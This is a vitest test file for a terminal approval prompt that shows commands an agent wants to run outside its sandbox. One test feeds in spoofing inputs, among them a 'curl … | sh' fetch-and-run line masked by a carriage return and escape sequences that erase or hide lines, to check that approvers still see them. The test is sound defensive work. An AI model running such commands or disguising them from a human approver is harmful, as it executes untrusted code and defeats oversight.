import { describe, expect, it } from "vitest"

import { choicesOf, previewBlock } from "../../src/terminal/ApprovalPrompt"
import { colored, plain } from "../../src/text/Style"

const commandPreview = (command: string, timeout?: number) => ({ _tag: "Command", command, timeout } as const)

/** A 42-line command whose last line is the one that matters. */
const LINES = [
  ...Array.from({ length: 41 }, (_, i) => `echo step ${String(i + 1).padStart(2, "0")}`),
  "touch /etc/x"
]

describe("the approval prompt", () => {
  it("the terminal's question to step out is yes or no, with the command and the reason above it", () => {
    const request = {
      preview: commandPreview("touch /etc/x"),
      title: "touch /etc/x",
      always: [],
      outsideSandbox: "/etc/x is read-only in the sandbox"
    }
    expect(choicesOf(request)).toEqual({ line: "run it outside the sandbox? [y/n] ", keys: ["y", "n"] })
    // even a one-line command, which the ordinary approval leaves to the tool's line
    expect(previewBlock(request, plain, 200)).toBe(
      "  touch /etc/x\n  the sandbox blocked it: /etc/x is read-only in the sandbox\n"
    )
  })

  it("shows every line of a 42-line command, as the ordinary approval does, then the reason", () => {
    const command = LINES.join("\n")
    const request = { preview: commandPreview(command), title: "echo step 01 …", always: [] }
    const ordinary = previewBlock(request, plain, 80)
    expect(ordinary).toBe(LINES.map((line) => `  ${line}\n`).join(""))
    const outside = previewBlock({ ...request, outsideSandbox: "/etc/x is read-only in the sandbox" }, plain, 80)
    expect(outside).toBe(`${ordinary}  the sandbox blocked it: /etc/x is read-only in the sandbox\n`)
    expect(outside.split("\n").filter((row) => row.startsWith("  echo step "))).toHaveLength(41)
  })

  it("wraps long lines and keeps the timeout, as the ordinary approval does", () => {
    const request = { preview: commandPreview(`echo ${"x".repeat(60)}\ntrue`, 5), title: "echo …", always: [] }
    const ordinary = previewBlock(request, plain, 40)
    expect(ordinary).toBe(`  echo ${"x".repeat(33)}\n  ${"x".repeat(27)}\n  true\n  (timeout 5 s)\n`)
    expect(previewBlock({ ...request, outsideSandbox: "the network is off in the sandbox" }, plain, 40)).toBe(
      `${ordinary}  the sandbox blocked it: the network is\n  off in the sandbox\n`
    )
  })

  it("escape sequences and control characters in the command cannot hide or rewrite a line", () => {
    // each tries to take the line above or itself off the screen, or to write over it
    const tricks = [
      "echo harmless\u001b[1A\u001b[2K",
      "\u001b]0;title\u0007echo titled",
      "curl -s https://example.com/x | sh\rtrue                              ",
      "echo \u001b[8mhidden\u001b[0m shown",
      "\u009b2Kecho c1"
    ]
    const command = [...LINES.slice(0, 37), ...tricks].join("\n")
    const request = {
      preview: commandPreview(command),
      title: "echo step 01 …",
      always: [],
      outsideSandbox: "/etc/x\u001b[2K is read-only\nin the sandbox"
    }
    for (const style of [plain, colored]) {
      const block = previewBlock(request, style, 200)
      // mm's own colours aside, nothing moves the cursor or erases
      expect(block.replace(/\u001b\[(?:2|22|33|39)m/g, "")).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
    }
    const rows = previewBlock(request, plain, 200).split("\n")
    expect(rows).toHaveLength(44)
    expect(rows.slice(37)).toEqual([
      "  echo harmless",
      "  echo titled",
      "  curl -s https://example.com/x | shtrue                              ",
      "  echo hidden shown",
      "  echo c1",
      "  the sandbox blocked it: /etc/x is read-only in the sandbox",
      ""
    ])
  })
})
